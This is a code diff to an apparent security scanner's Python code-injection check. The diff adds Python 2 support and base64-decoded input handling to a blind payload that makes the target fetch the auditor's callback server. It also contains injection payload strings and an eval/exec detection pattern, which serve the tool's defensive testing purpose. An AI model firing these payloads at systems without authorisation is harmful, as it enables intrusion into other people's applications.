@@ -40,7 +40,9 @@ ALL_EVALS = ["{a}*{b}", "'+str({a}*{b})+'", "'+({a}*{b})+'", '"+({a}*{b})+"']
 # A Python handler that runs text as code.
 EVALUATES = re.compile(r"\b(?:eval|exec)\s*\(")
 # Blind Python: a statement and an expression alike, bounded in time, its answer discarded.
-PYTHON_FETCH = "__import__('urllib.request').request.urlopen('{url}'+str({a}*{b}),timeout=3).close()"
+# Python 3's urllib.request, or Python 2's urllib2 (an app still on 2.7).
+PYTHON_FETCH = ("(__import__('urllib.request',fromlist=['urlopen']) if __import__('sys').version_info[0]>2 "
+                "else __import__('urllib2')).urlopen('{url}'+str({a}*{b}),timeout=3).close()")
 
 
 def result(engine: str, a: int, b: int) -> int:
@@ -56,8 +58,10 @@ class CodeInjection(PointCheck):
         # An eval whose failure only echoes the value (`Error evaluating 'x'`) answers the canary
         # like any text: where the value comes back from a Python handler the code shows, `run`
         # reads the handler, and sends the bare shapes where it calls eval or exec.
+        # An input the code base64-decodes shows nothing of its canary: `run` reads the handler.
         return profile.influenced or (profile.reflected and profile.special) or \
-            (profile.reflected and point.route.language == "python" and bool(point.route.file))
+            (profile.reflected and point.route.language == "python" and bool(point.route.file)) or \
+            (bool(point.param.decoded) and point.route.language == "python" and bool(point.route.file))
 
     def run(self, sender: Sender, ctx: ProbeContext, point: InjectionPoint) -> Confirmation | None:
         base = sender.baseline(point)
@@ -86,7 +90,8 @@ class CodeInjection(PointCheck):
             ex = sender.send(point, shape.format(a=a, b=b))
             if fresh(ex, str(want := result(engine, a, b)), base):
                 return self._confirmed(ex, point, engine, want)
-        if point.route.language == "python" and (profile is None or profile.influenced or bool(evals)):
+        decoded_into_code = bool(point.param.decoded) and bool(EVALUATES.search(handler_text(ctx.project, point.route)))
+        if point.route.language == "python" and (profile is None or profile.influenced or bool(evals) or decoded_into_code):
             return self._fetched(sender, ctx, point)
         return None
 
@@ -99,8 +104,9 @@ class CodeInjection(PointCheck):
         heard = f"{tok}{a * b}"
         if not server.seen(heard, wait=0.3):
             return None
+        sent = " (sent base64-encoded: the code decodes it first)" if point.param.decoded == "base64" else ""
         return Confirmation(self.category, self.name,
-                            f"code injection: {point.label} is run as Python (it fetched auditor's callback "
+                            f"code injection: {point.label} is run as Python{sent} (it fetched auditor's callback "
                             "server with a one-time token and the product of two random numbers)", ex, heard, point,
                             severity="critical")
 
